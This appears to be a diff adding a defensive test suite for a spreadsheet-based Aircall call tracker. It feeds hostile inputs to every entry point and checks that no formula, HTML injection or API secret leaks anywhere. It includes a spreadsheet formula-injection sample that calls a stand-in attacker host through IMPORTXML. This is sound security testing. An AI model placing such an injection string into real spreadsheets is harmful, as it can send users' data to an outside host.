@@ -1,0 +1,261 @@
+import { Buffer } from 'node:buffer';
+import { readdirSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+import { AnswersUi } from '../../host/cli/answers-ui';
+import type { ExecutionReport } from '../../host/engine/report';
+import type { RunRequest } from '../../host/host-options';
+import { dumpWorkbook } from '../../host/workbook/dump';
+import { makeFolder } from '../host/make-project';
+import { type HostileAccount, hostileTexts, openHostileAccount } from './hostile-account';
+import { asTrigger, type House, openHouse, records } from './house';
+
+/** A person's window that keeps the source of every page and all it is told. */
+class Window extends AnswersUi {
+  readonly pages: string[] = [];
+  readonly told: unknown[] = [];
+  override showSidebar(page: Parameters<AnswersUi['showSidebar']>[0]): void {
+    this.pages.push(page.content);
+  }
+  override showDialog(page: Parameters<AnswersUi['showDialog']>[0]): void {
+    this.pages.push(page.content);
+  }
+  override ask(question: Parameters<AnswersUi['ask']>[0]) {
+    this.told.push(question);
+    return super.ask(question);
+  }
+  override toast(toast: unknown): void {
+    this.told.push(toast);
+  }
+}
+
+type Door = Omit<RunRequest, 'function' | 'ui'>;
+
+const menu: Door = { as: 'menu' };
+const page = (...args: unknown[]): Door => ({ as: 'sidebar', args });
+const event = (queryString: string, contents = '') => ({
+  parameter: Object.fromEntries(new URLSearchParams(queryString)),
+  queryString,
+  postData: { contents, type: 'application/json', length: contents.length, name: 'postData' },
+});
+const web = (queryString: string, contents?: string): Door => ({
+  as: 'webapp',
+  args: [event(queryString, contents)],
+});
+
+/** What a hostile page, or a page for a hostile account, may send. */
+const strange = hostileTexts[4];
+const agent = (house: House) => Number(records(house.sheet('UserDB'))[0]?.['User ID']);
+const aCall = (house: House) => Number(records(house.sheet('Calls'))[0]?.['Call ID']);
+
+/**
+ * Every door of the bundle and how it is knocked at. A door that is missing here fails the first
+ * test: give it values that let it bring or show something.
+ */
+const doors: Readonly<Record<string, (house: House) => readonly Door[]>> = {
+  onOpen: () => [{ as: 'simple' }],
+  activityTracker: () => [menu, { as: 'trigger' }],
+  setupActivityTracker: () => [menu],
+  showConfigSidebar: () => [menu],
+  showUserCallsSidebar: () => [{ ...menu, select: { sheetName: 'Activity Tracker', a1: 'D6' } }],
+  showAllCallsSidebar: () => [menu],
+  showAdvancedSearchSidebar: () => [menu],
+  switchUserStatus: () => [{ ...menu, select: { sheetName: 'Activity Tracker', a1: 'D6' } }],
+  showScheduleSidebar: () => [menu],
+  mapNumbersToUsers: () => [menu],
+  foldInbox: () => [{ as: 'trigger' }],
+  doPost: () => [web('key=wrong', '{"token":"wrong","event":"call.created"}'), web('', strange)],
+  doGet: () => [web(''), web(`action=route&key=wrong&callerNumber=${strange}`), web('view=tv')],
+  apiReadSettings: () => [page()],
+  apiSaveSettings: () => [page({ lookbackMinutes: 20 }), page({ teamFilter: [strange] })],
+  apiReadSetUp: () => [page()],
+  apiSaveKey: ({ simulator: { apiId, apiToken } }) => [
+    page({ kind: 'pair', apiId, apiToken }),
+    page(strange),
+  ],
+  apiRefreshBoard: () => [page()],
+  apiShowBoard: () => [page()],
+  apiReadSchedule: () => [page()],
+  apiChangeSchedule: () => [page(5), page(strange)],
+  apiReadSelection: () => [page()],
+  apiReadAvailabilities: (house) => [page([agent(house)]), page(strange)],
+  apiSwitchAvailabilities: () => [page(strange)],
+  apiRedrawBoard: () => [page()],
+  apiReadSearchForm: () => [page()],
+  apiReadHistory: (house) => [page(agent(house)), page(strange)],
+  apiFindCalls: (house) => [
+    page({ kind: 'everyone' }),
+    page({ kind: 'user', userId: agent(house) }),
+    page(strange, strange),
+  ],
+  apiReadCall: (house) => [page(aCall(house)), page(strange)],
+  apiCopyCalls: () => [page(strange), page({ calls: [{ id: 1 }], criteria: strange })],
+  apiSaveSearch: () => [page(strange), page({ name: strange, criteria: {} })],
+  apiForgetSearch: () => [page(strange)],
+  apiReadWebhooks: () => [page()],
+  apiConnectWebhooks: () => [page(strange), page('https://script.google.com/macros/s/x/exec')],
+  apiPauseWebhooks: () => [page(true)],
+  apiRemoveWebhooks: () => [page()],
+  apiReadMapping: () => [page()],
+  apiContinueMapping: () => [page()],
+  apiSteerMapping: () => [page('pause'), page(strange)],
+};
+
+/** Whatever a door said, showed or threw. */
+interface Knock {
+  readonly door: string;
+  readonly report: ExecutionReport;
+  readonly pages: readonly string[];
+  readonly told: readonly unknown[];
+}
+
+let account: HostileAccount;
+let house: House;
+const stateDir = makeFolder();
+const knocks: Knock[] = [];
+
+async function knock(door: string, request: Door): Promise<void> {
+  const ui = request.as === 'webapp' || request.as === 'trigger' ? undefined : new Window();
+  const report = await house.run(door, { ...request, ...(ui && { ui }) });
+  knocks.push({ door, report, pages: ui?.pages ?? [], told: ui?.told ?? [] });
+}
+
+const knockAtAll = async (): Promise<void> => {
+  for (const [door, requests] of Object.entries(doors)) {
+    for (const request of requests(house)) await knock(door, request);
+  }
+};
+
+beforeAll(async () => {
+  account = await openHostileAccount();
+  house = await openHouse({
+    account: 's',
+    stateDir,
+    switches: ['rate.limit=0'],
+    properties: {
+      AIRCALL_BASE_URL: account.url,
+      SETTINGS: JSON.stringify({ requestsPerMinute: 1000 }),
+    },
+  });
+  account.simulator = house.simulator;
+  await knock('setupActivityTracker', menu);
+  for (let minute = 0; minute < 3; minute += 1) {
+    house.advance(60);
+    await knock('activityTracker', asTrigger);
+  }
+  await knockAtAll();
+  // and once more while Aircall refuses, and repeats what it was asked with
+  const { apiId, apiToken } = house.simulator;
+  const echo = Buffer.from(`${apiId}:${apiToken}`).toString('base64');
+  for (const status of [403, 500]) {
+    const body = JSON.stringify({ error: `Basic ${echo}`, troubleshoot: `${apiId}:${apiToken}` });
+    house.control('POST', '/faults', { status, body });
+    house.advance(60);
+    await knockAtAll();
+    house.control('DELETE', '/faults');
+  }
+  house.host.save();
+}, 120_000);
+afterAll(async () => {
+  await house.close();
+  await account.close();
+});
+
+test('every door of the bundle is knocked at', () => {
+  const code = readFileSync('dist/Code.js', 'utf8');
+  const [stubs = ''] = /^(?:function \w+\(\) \{\n\}\s*)+/.exec(code) ?? [];
+  const found = [...stubs.matchAll(/function (\w+)/g)].map(([, name]) => name);
+  expect(found.sort()).toEqual(Object.keys(doors).sort());
+});
+
+test('every page of the bundle is opened by one of them', () => {
+  const shown = knocks.flatMap(({ pages }) => pages);
+  for (const [name, html] of Object.entries(house.host.project.htmlFiles)) {
+    const isShown = shown.some((each) => each.includes(html.slice(-2000, -200)));
+    expect({ name, isShown }).toEqual({ name, isShown: true });
+  }
+});
+
+describe('text from outside', () => {
+  test('is in the sheets, and nowhere a formula', () => {
+    const { sheets } = dumpWorkbook(house.host.workbook);
+    const formulas = sheets.flatMap(({ formulas }) => formulas.flat()).filter(Boolean);
+    expect(formulas).toEqual([]);
+    const texts = new Set(
+      sheets.flatMap(({ values }) => values.flat()).map((text) => String(text).replace(/^'/, '')),
+    );
+    // in cells of text format; `'` guards those that are not
+    for (const text of ['=IMPORTXML("https://evil.example/x","//a")', '@SUM(1+1)*cmd']) {
+      expect([...texts].some((cell) => cell.includes(text))).toBe(true);
+    }
+  });
+
+  test('that starts like a formula stands in cells of text format, and guarded', () => {
+    const { sheets } = dumpWorkbook(house.host.workbook);
+    const unguarded = sheets.flatMap(({ name, values, numberFormats }) =>
+      values.flatMap((row, r) =>
+        row.flatMap((cell, c) =>
+          typeof cell === 'string' &&
+          /^[=@\t\r\n]|^[+-](?![\d\s().-]+$)/.test(cell) &&
+          numberFormats[r]?.[c] !== '@'
+            ? [`${name} R${r + 1}C${c + 1}: ${cell}`]
+            : [],
+        ),
+      ),
+    );
+    expect(unguarded).toEqual([]);
+  });
+
+  test('opens and closes no element of a page', () => {
+    for (const { door, pages } of knocks) {
+      for (const html of pages) {
+        const own = Object.values(house.host.project.htmlFiles).find((file) =>
+          html.includes(file.slice(-2000, -200)),
+        );
+        const opening = html.replace(own ?? '', '');
+        for (const text of hostileTexts.filter((each) => each.includes('<'))) {
+          expect({ door, has: opening.includes(text) }).toEqual({ door, has: false });
+        }
+      }
+    }
+  });
+});
+
+test('no secret is in a cell, note, answer, error, log line, dialog, page or kept file', () => {
+  const { apiId, apiToken } = house.simulator;
+  const pair = Buffer.from(`${apiId}:${apiToken}`).toString('base64');
+  const secrets = [apiToken, apiId, pair, pair.replace(/=+$/, '')];
+  const files = readdirSync(stateDir, { recursive: true, withFileTypes: true })
+    .filter((entry) => entry.isFile() && entry.name !== 'properties.json')
+    .map((entry) => path.join(entry.parentPath, entry.name));
+  const places: Record<string, string> = {
+    dump: JSON.stringify(dumpWorkbook(house.host.workbook)),
+    ...Object.fromEntries(files.map((file) => [file, readFileSync(file, 'utf8')])),
+    ...Object.fromEntries(knocks.map((each, at) => [`${at} ${each.door}`, JSON.stringify(each)])),
+  };
+  expect(files.length).toBeGreaterThan(3);
+  const leaks = Object.entries(places).flatMap(([place, text]) =>
+    secrets.some((secret) => text.includes(secret)) ? [place] : [],
+  );
+  expect(leaks).toEqual([]);
+  // the host hides what it knows to be secret: where it had to, there was some
+  const hidden = knocks.filter(({ report }) =>
+    JSON.stringify([report.log, report.error]).includes('•••'),
+  );
+  expect(hidden.map(({ door }) => door)).toEqual([]);
+});
+
+test.each([
+  ['a bearer token', { AIRCALL_API_ID: '', AIRCALL_API_TOKEN: 'Bearer s3cret-bearer-token' }],
+  ['an encoded key', { AIRCALL_API_ID: '', AIRCALL_API_TOKEN: 'czNjcmV0LWlkOnMzY3JldC10b2tlbg==' }],
+])('%s that is refused is repeated nowhere', async (_, key) => {
+  const other = await openHouse({ properties: key });
+  const window = new Window();
+  const reports = [
+    await other.run('setupActivityTracker', { ui: window }),
+    await other.run('activityTracker', { ui: window }),
+    await other.run('apiReadSettings', { as: 'sidebar', ui: window }),
+  ];
+  const everything = JSON.stringify([reports, window, dumpWorkbook(other.host.workbook)]);
+  for (const secret of ['s3cret', 'czNjcmV0']) expect(everything).not.toContain(secret);
+  await other.close();
+});
